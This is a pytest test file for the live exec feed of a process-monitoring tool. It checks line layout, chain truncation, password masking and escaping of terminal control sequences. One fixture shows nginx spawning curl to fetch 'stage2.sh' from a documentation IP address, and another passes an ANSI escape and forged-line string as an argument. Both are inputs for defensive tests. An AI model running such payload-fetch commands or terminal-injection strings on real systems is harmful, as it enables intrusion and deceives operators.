"""The live feed: one exec, one line, nothing in it that the process could use against the reader."""

from __future__ import annotations

import io
import re

import pytest
from rich.cells import cell_len
from rich.console import Console

from pipeline.counters import Counters
from pipeline.enrich.masking import Masker
from pipeline.events import Exec, HostFacts
from pipeline.process import ProcessVersion
from pipeline.sources.decode import decode_batch
from pipeline.sources.synthetic import Synthetic
from pipeline.tree import ProcessTree
from pipeline.view import live
from pipeline.view.live import Feed


def _execs(*argvs: tuple[str, ...], above: tuple[str, ...] = ("nginx",)) -> list[tuple[Exec, ProcessVersion]]:
    """One exec of /usr/bin/curl for each argv, below systemd and ``above``."""
    stream, counters = Synthetic(), Counters()
    parent = stream.running("/usr/lib/systemd/systemd", pid=1)
    stream.snapshot_end()
    for name in above:
        parent = stream.spawn(parent, f"/usr/sbin/{name}", (name,))
    for argv in argvs:
        stream.spawn(parent, "/usr/bin/curl", argv)
    tree = ProcessTree(100, 100, counters)
    seen = []
    for event in decode_batch(stream.records, counters):
        process = tree.apply(event)  # type: ignore[arg-type]  # the stream has no accounts and no steps of the clock
        if isinstance(event, Exec) and process is not None and not isinstance(event, HostFacts):
            seen.append((event, process))
    return seen[len(above) :]


def _feed(console: Console, counters: Counters) -> Feed:
    masker = Masker(["(?<=--password=).+"])
    return Feed(
        console,
        counters,
        wall_ns=lambda ns: ns,
        user_name=lambda _: "root",
        mask=masker.mask,
        status=lambda: "",
        reader_gone=lambda: None,
    )


def _printed(
    *argvs: tuple[str, ...], above: tuple[str, ...] = ("nginx",), terminal: bool = False, width: int = 120
) -> tuple[list[str], Counters]:
    out, counters = io.StringIO(), Counters()
    console = Console(file=out, force_terminal=terminal, width=width, color_system=None, legacy_windows=False)
    feed = _feed(console, counters)
    for event, process in _execs(*argvs, above=above):
        feed.watch(event, process)
    feed.close()
    return [line for line in out.getvalue().splitlines() if "curl" in line or "more" in line], counters


def test_a_line_has_time_pid_user_chain_and_command_in_a_pipe() -> None:
    (line,), _ = _printed(("curl", "http://203.0.113.50/stage2.sh"))
    time, pid, user, rest = line.split(maxsplit=3)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z", time)
    assert pid.isdigit()
    assert user == "root"
    assert rest == "systemd → nginx → curl   curl http://203.0.113.50/stage2.sh"


@pytest.mark.parametrize("width", [None, 120])
@pytest.mark.parametrize(("doubt", "mark"), [(("loss", "snapshot"), " ?"), (("cut", "snapshot"), ""), ((), "")])
def test_a_chain_that_may_not_be_the_whole_truth_has_a_question_mark(
    doubt: tuple[str, ...], mark: str, width: int | None
) -> None:
    ((event, process),) = _execs(("curl",), above=("nginx",) * 9)
    line = _feed(Console(file=io.StringIO()), Counters()).line(event, process._replace(doubt=doubt), width)
    assert line.plain.endswith(f" → curl{mark}   curl")
    assert width is None or line.cell_len <= width


def test_secrets_are_masked() -> None:
    (line,), _ = _printed(("curl", "--password=hunter2"))
    assert "hunter2" not in line
    assert "--password=***" in line


def test_what_could_steer_a_terminal_is_escaped() -> None:
    (line,), _ = _printed(("curl", "\x1b[2Jgone\nforged [red]line[/red]"))
    assert "\x1b" not in line
    assert r"\x1b[2Jgone\nforged [red]line[/red]" in line


LONG = ("containerd-shim-runc-v2", "nginx", "nginx", "supervisor", "bash", "make", "sh")


def test_a_wide_terminal_gets_one_line_an_exec_however_long_the_command() -> None:
    lines, _ = _printed(("curl", "x" * 500), ("curl", "y" * 500), terminal=True, width=120)
    assert len(lines) == 2


def test_on_80_columns_the_chain_is_below_the_command_with_its_root_and_last_three() -> None:
    lines, _ = _printed(("curl", "x" * 500), ("curl", "-V"), above=LONG, terminal=True, width=80)
    assert len(lines) == 4
    assert all(cell_len(line) <= 80 for line in lines)
    first, chain, second, _ = lines
    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3} +\d+ root +curl x+…", first)
    assert re.fullmatch(r" +systemd → … → .*bash → make → sh → curl", chain)
    assert second.endswith(" root       curl -V")


@pytest.mark.parametrize("width", [20, 40, 79])
def test_a_chain_below_its_command_fits_with_its_mark(width: int) -> None:
    ((event, process),) = _execs(("curl",), above=LONG)
    text = _feed(Console(file=io.StringIO()), Counters()).line(event, process._replace(doubt=("loss",)), width)
    head, chain = text.plain.split("\n")
    assert cell_len(head) <= width
    assert cell_len(chain) <= width
    assert chain.endswith(" ?")


@pytest.mark.parametrize("width", [80, 120])
def test_a_chain_that_has_room_on_a_terminal_is_whole(width: int) -> None:
    lines, _ = _printed(("curl",), above=("nginx", "worker", "handler"), terminal=True, width=width)
    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3}", lines[0].split()[0])
    shown = [line[13:].strip() if line.startswith(" ") else line.split(maxsplit=3)[3].strip() for line in lines]
    chain = "systemd → nginx → worker → handler → curl"
    assert shown == (["curl", chain] if width == 80 else [f"{chain}   curl"])


def test_more_than_a_person_reads_is_left_out_said_and_counted() -> None:
    argvs = [("curl", str(number)) for number in range(live.TERMINAL_LINES_PER_REFRESH_MAX + 7)]
    lines, counters = _printed(*argvs, terminal=True)
    assert "7 more not shown" in lines[0]
    assert len(lines) == live.TERMINAL_LINES_PER_REFRESH_MAX + 1
    assert counters.feed_lines_skipped == 7


def test_a_pipe_gets_every_line() -> None:
    argvs = [("curl", str(number)) for number in range(live.TERMINAL_LINES_PER_REFRESH_MAX + 7)]
    lines, counters = _printed(*argvs)
    assert len(lines) == len(argvs)
    assert counters.feed_lines_skipped == 0
